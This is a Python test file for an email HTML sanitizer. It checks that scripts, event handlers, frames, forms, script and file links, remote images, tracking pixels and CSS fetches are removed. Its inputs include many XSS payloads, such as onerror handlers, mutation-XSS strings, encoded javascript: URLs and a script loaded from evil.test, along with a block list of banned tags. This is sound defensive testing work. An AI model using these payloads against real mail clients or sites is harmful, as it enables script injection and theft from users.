"""The mail sanitizer: nothing that runs, nothing that fetches, placeholders where images were."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.mail.css import scrub_css
from pipeline.mail.render import content_security_policy, render_mail, sanitize_fragment

REMOTE = re.compile(r"(https?:)?//[\w.-]+", re.I)


def clean(body: str, **options) -> str:
    return sanitize_fragment(body, **options)[0]


BANNED_ELEMENTS = ("script", "iframe", "frame", "object", "embed", "applet", "form", "input",
                   "button", "textarea", "base", "meta", "link", "svg", "math", "video", "audio",
                   "source", "picture", "template", "noscript")  # fmt: skip
BANNED_IN_TAGS = ("javascript:", "vbscript:", "srcset", "poster=", "background=", "href=")


def assert_inert(fragment: str) -> None:
    """No script, handler, script URL, frame, form or fetching element survives. Text may say
    anything: the sanitizer escapes its "<", so only tags and style sheets are looked at."""
    lowered = fragment.lower()
    for element in BANNED_ELEMENTS:
        assert not re.search(rf"<{element}[\s/>]", lowered), (element, fragment)
    for tag in re.findall(r"<[a-z][^>]*>", lowered):
        assert not any(banned in tag for banned in BANNED_IN_TAGS), (tag, fragment)
        assert not re.search(r"\son[a-z]+\s*=", tag), (tag, fragment)
    for sheet in re.findall(r"<style>(.*?)</style>", lowered, re.S):
        assert "@import" not in sheet and "expression(" not in sheet, fragment


@pytest.mark.parametrize(
    "body",
    [
        "<script>document.title='pwned'</script><p>hi</p>",
        "<SCRIPT SRC=http://evil.test/x.js></SCRIPT><p>hi</p>",
        "<scr<script>ipt>alert(1)</script><p>hi</p>",
        "<p onclick=\"alert(1)\" onmouseover='alert(2)'>hi</p>",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)><p>hi</p></body>",
        "<svg><script>alert(1)</script></svg><svg onload=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        '<iframe src="https://evil.test"></iframe><object data="https://evil.test/o"></object>',
        '<embed src="https://evil.test/e"><applet code=x></applet>',
        '<form action="https://evil.test"><input name=a><button>Go</button></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">',
        '<link rel=stylesheet href="https://evil.test/s.css"><p>x</p>',
        '<video poster="https://evil.test/p.png"><source src="https://evil.test/v.mp4"></video>',
        "<template><script>alert(1)</script></template>",
        '<div style="behavior:url(x.htc);width:expression(alert(1))">x</div>',
        "<!--<script>alert(1)</script>--><p>x</p>",
        '<a href="https://ok.test" onclick="steal()" target="_blank">x</a>',
    ],
)
def test_scripts_handlers_frames_and_forms_do_not_survive(body: str) -> None:
    assert_inert(clean(body))
    assert_inert(clean(body, load_remote_images=True))


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#10;ascript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "file:///etc/passwd",
    ],
)
def test_script_data_and_file_links_lose_their_target(href: str) -> None:
    fragment, rewrite = sanitize_fragment(f'<a href="{href}">Cliquez ici</a>')
    assert fragment == "<a>Cliquez ici</a>"
    assert rewrite.links == []


def test_web_links_keep_their_text_and_show_their_target_but_cannot_be_followed() -> None:
    fragment, rewrite = sanitize_fragment(
        '<p><a href="https://classe.example.fr/eval?x=1&amp;y=2">Répondre au questionnaire</a></p>'
    )
    assert "href" not in fragment
    assert 'class="mt-link"' in fragment
    assert 'title="Lien vers https://classe.example.fr/eval?x=1&amp;y=2 (non suivi)"' in fragment
    assert [(link.text, link.url) for link in rewrite.links] == [
        ("Répondre au questionnaire", "https://classe.example.fr/eval?x=1&y=2")
    ]


def test_remote_images_become_visible_placeholders_with_their_alt_text() -> None:
    fragment, rewrite = sanitize_fragment(
        '<img src="https://cdn.example.fr/logo.png" alt="Horizon" width="180" height="48">'
    )
    assert "<img" not in fragment
    assert 'class="mt-blocked"' in fragment
    assert "Image distante bloquée — Horizon" in fragment
    assert "width:180px;height:48px" in fragment
    assert (rewrite.remote_images, rewrite.tracking_pixels) == (1, 0)


@pytest.mark.parametrize(
    "pixel",
    [
        '<img src="https://ea.r.sp1-brevo.net/tr/op/abc" width="1" height="1" alt="">',
        '<img src="https://u1.ct.sendgrid.net/wf/open?upn=x" style="width:1px;height:1px">',
        '<img src="http://track.example/o.gif" style="display:none">',
        '<img src="//track.example/o.gif" width="0" height="0">',
    ],
)
def test_tracking_pixels_are_blocked_even_when_remote_images_are_loaded(pixel: str) -> None:
    for load in (False, True):
        fragment, rewrite = sanitize_fragment(pixel, load_remote_images=load, lang="en")
        assert "<img" not in fragment
        assert "Tracking pixel blocked" in fragment
        assert (rewrite.remote_images, rewrite.tracking_pixels) == (1, 1)


def test_loading_remote_images_lets_content_images_through() -> None:
    body = '<img src="https://cdn.example.fr/logo.png" alt="Logo" width="180" height="48">'
    fragment, rewrite = sanitize_fragment(body, load_remote_images=True)
    assert fragment == body.replace(">", ' referrerpolicy="no-referrer">')
    assert rewrite.remote_images == 0


def test_protocol_relative_images_count_as_remote() -> None:
    fragment, rewrite = sanitize_fragment('<img src="//cdn.example.fr/banner.png" width="600">')
    assert "<img" not in fragment and rewrite.remote_images == 1
    assert 'title="https://cdn.example.fr/banner.png"' in fragment


def test_srcset_background_attributes_and_relative_sources_never_fetch() -> None:
    body = (
        '<img srcset="https://e.test/a.png 1x, https://e.test/b.png 2x" alt="">'
        '<table background="https://e.test/t.png"><tr>'
        '<td background="https://e.test/td.png">c</td></tr></table>'
        '<img src="/relative.png"><img src="images/x.png">'
    )
    for load in (False, True):
        fragment = clean(body, load_remote_images=load)
        assert not REMOTE.search(fragment), fragment
        assert "srcset" not in fragment and "background" not in fragment


def test_inline_data_images_stay_and_other_data_urls_go() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    assert clean(f'<img src="{png}" alt="x">') == f'<img src="{png}" alt="x">'
    assert "<img" not in clean('<img src="data:image/svg+xml;base64,PHN2Zz4=">')
    assert "<img" not in clean('<img src="data:text/html,<script>alert(1)</script>">')


def test_content_id_images_get_a_placeholder() -> None:
    fragment, _ = sanitize_fragment('<img src="cid:logo@mail" alt="Logo">', lang="en")
    assert "Embedded image not kept — Logo" in fragment
    assert "<img" not in fragment


def test_css_url_in_style_attributes_is_removed_and_counted() -> None:
    fragment, rewrite = sanitize_fragment(
        '<div style="color:#123456;background-image:url(https://e.test/bg.png);padding:4px">x</div>'
    )
    assert "url(" not in fragment
    assert "color:#123456" in fragment and "padding:4px" in fragment
    assert rewrite.remote_styles == 1


def test_style_elements_lose_imports_remote_urls_and_escaped_tricks() -> None:
    body = (
        "<style>@import url(https://e.test/a.css);"
        'body{background:url("https://e.test/bg.png");color:red}'
        '.a{background:image-set("https://e.test/i.png" 1x)}'
        ".b{background:u\\72l(https://e.test/z.png)}"
        ".c{background:URL( 'https://e.test/c.png' )}"
        "@font-face{font-family:x;src:url(https://e.test/f.woff)}"
        ".d{background:ur/**/l(https://e.test/d.png)}</style><p>x</p>"
    )
    fragment, rewrite = sanitize_fragment(body)
    assert not REMOTE.search(fragment), fragment
    assert "@import" not in fragment and "\\" not in fragment
    assert "color:red" in fragment
    assert rewrite.remote_styles >= 4


def test_style_elements_never_fetch_even_when_remote_images_are_asked() -> None:
    # Chromium sends the dashboard's address as Referer with CSS images whatever the policy.
    body = '<style>.hero{background:url("https://e.test/hero.png");color:red}</style>'
    assert "https://e.test/hero.png" not in clean(body, load_remote_images=True)
    assert "color:red" in clean(body, load_remote_images=True)
    assert "https://e.test/hero.png" not in clean(body)
    css, fetching = scrub_css(".x{background:url(javascript:alert(1))}")
    assert "javascript" not in css and fetching == 0


def test_head_title_and_comments_do_not_leak_into_the_text() -> None:
    body = (
        "<html><head><title>Secret title</title></head>"
        "<body><!-- note --><p>Bonjour</p></body></html>"
    )
    fragment = clean(body)
    assert "Secret title" not in fragment and "note" not in fragment
    assert "<p>Bonjour</p>" in fragment


def test_the_body_style_is_kept_on_a_wrapper() -> None:
    body = '<body style="font-family:Arial;color:#1f2933" onload="x()"><p>Bonjour</p></body>'
    assert clean(body) == '<div style="font-family:Arial;color:#1f2933"><p>Bonjour</p></div>'


def test_the_document_carries_a_strict_content_security_policy() -> None:
    rendered = render_mail("<p>Bonjour</p>")
    assert '<meta http-equiv="Content-Security-Policy"' in rendered.document
    assert "default-src &#x27;none&#x27;; img-src data: cid:;" in rendered.document
    assert "<p>Bonjour</p>" in rendered.document
    policy = content_security_policy(load_remote_images=False)
    assert "script-src" not in policy and "default-src 'none'" in policy
    assert "img-src data: cid:;" in policy
    assert "img-src data: cid: https: http:;" in content_security_policy(load_remote_images=True)


def test_the_demo_mail_shape_blocks_logo_and_pixel() -> None:
    body = (
        '<!DOCTYPE html>\n<html lang="fr"><head><meta charset="utf-8"><title>Convocation</title>'
        '</head>\n<body style="font-family:Arial">\n'
        '<p><img src="https://www.example.fr/logo.png" alt="Horizon" width="180" height="48"></p>'
        "<p>Bonjour Honoré,</p>"
        '<img src="https://ea.r.sp1-brevo.net/tr/op/a7f6" width="1" height="1" alt="" '
        'style="display:block;border:0">\n</body></html>'
    )
    rendered = render_mail(body)
    assert (rendered.remote_images, rendered.tracking_pixels) == (2, 1)
    assert rendered.blocked_anything
    assert "Bonjour Honoré," in rendered.document
    assert "<img" not in rendered.document


SOUP = [
    "<", ">", "/", "=", '"', "'", " ", "script", "img", "a", "svg", "style", "iframe", "src",
    "href", "onerror", "onload", "javascript:", "data:", "http://e.test/p", "//e.test", "url(",
    ")", "@import", "\\", "&#x6a;", "&lt;", "<!--", "-->", "![CDATA[", "noscript", "title",
    "math", "mglyph", "template", "\n", "\t", "srcset", "background",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(SOUP), max_size=40))
def test_random_markup_soup_never_yields_anything_active_or_remote(pieces: list[str]) -> None:
    body = "".join(pieces)
    fragment, _ = sanitize_fragment(body)
    assert_inert(fragment)
    tags_with_remote = re.findall(r"<[^>]*(?:https?:)?//e\.test[^>]*>", fragment, re.I)
    assert all("title=" in tag and "src=" not in tag for tag in tags_with_remote), fragment
    styles = re.findall(r"<style>(.*?)</style>", fragment, re.S | re.I)
    assert not any("url(" in s.lower() or "\\" in s for s in styles), fragment
